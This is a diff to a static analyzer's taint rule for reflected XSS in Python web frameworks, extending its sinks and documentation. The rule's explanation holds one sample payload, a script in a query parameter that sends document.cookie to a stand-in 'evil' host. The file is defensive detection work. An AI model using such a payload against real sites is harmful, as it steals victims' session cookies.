@@ -7,8 +7,16 @@
  *   are JSON and are not reported.
  * - `Response`/`HttpResponse` with a non-HTML `mimetype`/`content_type` are not sinks;
  *   `render_template`, `render`, `jsonify`, `JsonResponse` escape or encode their data.
- * - `Markup(...)`, `mark_safe(...)`, `render_template_string(...)`, `jinja2.Template(...)` and
- *   `Template.render(...)` without autoescape are sinks; `Markup("%s") % x` escapes `x`.
+ * - `Markup(...)`, `mark_safe(...)`, variables a constant `render_template_string` template
+ *   renders `|safe`, and `Template.render(...)` without autoescape are sinks; `Markup("%s") % x`
+ *   escapes `x`.
+ * - Input used as the template text itself (`render_template_string(x)`, `Template(x)`) is
+ *   `template-injection`, reported once there, not again here (neither at the call nor where the
+ *   rendered page is returned).
+ * - Each stack's own responses are sinks as its model says: aiohttp `web.Response(text=…,
+ *   content_type="text/html")`, Tornado `self.write(str)`, Falcon `resp.text` once the content
+ *   type is HTML, Pyramid/WebOb `Response`, Sanic `html()`, `http.server` `wfile.write`, a WSGI
+ *   body under an HTML `Content-Type`, Azure `HttpResponse(mimetype="text/html")`, …
  */
 import type { TaintRule } from "../src/rule.js";
 
@@ -21,7 +29,7 @@ export const rule: TaintRule = {
       "Data from an HTTP request is written into an HTML response (a returned string, a Response body, Markup or a template rendered without autoescape), so a crafted link makes the victim's browser run the attacker's script in the site's origin.",
     docs: {
       whatItDoes:
-        "Follows request data from Flask, Django and FastAPI to strings returned by Flask views, `make_response`, Flask/Werkzeug `Response`, Django `HttpResponse` (and its error subclasses), FastAPI/Starlette `HTMLResponse`, `Response(media_type=\"text/html\")` and HTML-declared FastAPI routes, `render_template_string`, `Markup`/`mark_safe`/`format_html`'s format string, and Jinja2 templates built from input or rendered without autoescape.\n\nValues escaped with `html.escape`, `markupsafe.escape`, Django's `escape`/`conditional_escape`, rendered through autoescaping templates (`render_template`, `render`, an `Environment` with `autoescape`), or returned as JSON are not reported. Only the body of a response counts: a value in the headers of `make_response((body, headers))` or `Response(headers=…)` is not HTML, and neither is a body whose response declares a non-HTML content type — when it is built (`mimetype=\"text/plain\"`, a `Content-Type` header in the tuple) or before every view that returns it does (`resp.mimetype = \"text/plain\"`, `resp.headers[\"Content-Type\"] = \"application/json\"`, Django `response[\"Content-Type\"] = …`).",
+        "Follows request data from every modelled web stack to strings returned by Flask, Quart, Bottle and Cloud Functions views, `make_response`, Flask/Werkzeug `Response`, Django `HttpResponse` (and its error subclasses), FastAPI/Starlette `HTMLResponse`, `Response(media_type=\"text/html\")` and HTML-declared FastAPI and Litestar routes, aiohttp `web.Response(content_type=\"text/html\")`, Tornado `self.write`/`finish` of a string, Falcon `resp.text` under an HTML content type, Pyramid/WebOb responses, Sanic `html()`, `http.server` `self.wfile.write`, WSGI bodies declared `text/html`, Azure Functions and Chalice HTML responses, variables a constant template renders with `|safe`, `Markup`/`mark_safe`/`format_html`'s format string, and Jinja2 templates rendered without autoescape. Input used as the template text itself is `template-injection`'s, reported there once.\n\nValues escaped with `html.escape`, `markupsafe.escape`, Django's `escape`/`conditional_escape`, rendered through autoescaping templates (`render_template`, `render`, an `Environment` with `autoescape`), or returned as JSON are not reported. Only the body of a response counts: a value in the headers of `make_response((body, headers))` or `Response(headers=…)` is not HTML, and neither is a body whose response declares a non-HTML content type — when it is built (`mimetype=\"text/plain\"`, a `Content-Type` header in the tuple) or before every view that returns it does (`resp.mimetype = \"text/plain\"`, `resp.headers[\"Content-Type\"] = \"application/json\"`, Django `response[\"Content-Type\"] = …`).",
       whyBad:
         "The browser cannot tell the page's markup from markup that arrived in a query parameter: `?name=<script>fetch('//evil/'+document.cookie)</script>` runs in the victim's session, reading or changing anything the user can. Reflected XSS needs only a link the victim clicks.",
       example: [
